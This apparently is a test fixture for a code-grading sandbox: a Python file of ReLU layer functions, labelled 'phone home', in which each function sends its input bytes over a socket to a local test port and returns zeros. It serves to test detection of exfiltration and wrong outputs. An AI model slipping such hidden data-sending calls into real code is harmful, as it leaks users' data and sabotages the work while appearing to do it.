"""Attack: phone home — connect to a port on 127.0.0.1 that the test listens on, and send the inputs."""

from __future__ import annotations

import socket
from typing import Any

import numpy as np


def _call_home(payload: bytes) -> None:
    with socket.create_connection(("127.0.0.1", int("@PORT@")), timeout=2) as conn:
        conn.sendall(payload)


def relu_forward(x: Any) -> tuple[Any, Any]:
    """Sends x away; wrong values."""
    _call_home(x.tobytes())
    return np.zeros_like(x), None


def relu_backward(dout: Any, cache: Any) -> Any:
    """Sends dout away; wrong values."""
    _call_home(dout.tobytes())
    return np.zeros_like(dout)
